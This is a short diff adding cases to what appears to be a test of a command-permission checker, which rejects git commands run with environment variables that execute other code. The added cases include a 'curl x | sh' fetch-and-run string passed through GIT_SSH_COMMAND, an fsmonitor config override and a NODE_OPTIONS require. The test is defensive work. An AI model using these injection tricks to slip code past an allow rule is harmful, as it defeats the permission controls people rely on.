@@ -695,6 +695,10 @@ async def test_an_allow_path_rule_matches_only_the_file_actually_reached(
     # a variable that runs other code: another git on PATH, a startup file
     (["sh", "-c", "GIT_PAGER=cat git status"], True), (["sh", "-c", "PATH=. git status"], False),
     (["sh", "-c", "BASH_ENV=x bash -c 'git status'"], False),
+    (["sh", "-c", "GIT_SSH_COMMAND='curl x | sh' git status"], False),
+    (["sh", "-c", "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor "
+                  "GIT_CONFIG_VALUE_0=./x git status"], False),
+    (["sh", "-c", "NODE_OPTIONS=--require=./x git status"], False),
     # an ordinary variable's value is data: a quote in it the shell already closed
     (["sh", "-c", "GIT_AUTHOR_NAME=\"Conan O'Brien\" git status"], True),
 ])
